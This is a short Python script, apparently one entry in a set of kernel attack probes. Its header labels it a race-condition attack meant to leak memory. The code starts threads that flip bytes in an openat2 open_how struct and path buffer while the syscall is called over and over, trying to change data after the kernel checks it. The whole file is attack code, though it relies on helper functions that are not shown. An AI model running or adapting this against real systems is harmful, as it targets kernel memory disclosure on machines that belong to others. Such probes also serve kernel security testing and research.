# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips the bytes behind the struct that decide whether the kernel takes it
# class: race
# wins: leak
# needs: race
from kit import *

how = ctypes.create_string_buffer(struct.pack('<QQQQ', 0, 0, 0, 0), 64)
buf, at, bits = twin_path()
tried()
f, g = Flipper(address(how) + 24, 1), Flipper(at, bits, 0x1ff)
rounds(lambda i: took(sc('openat2', AT_FDCWD, buf, how, 32)))
f.end()
g.end()
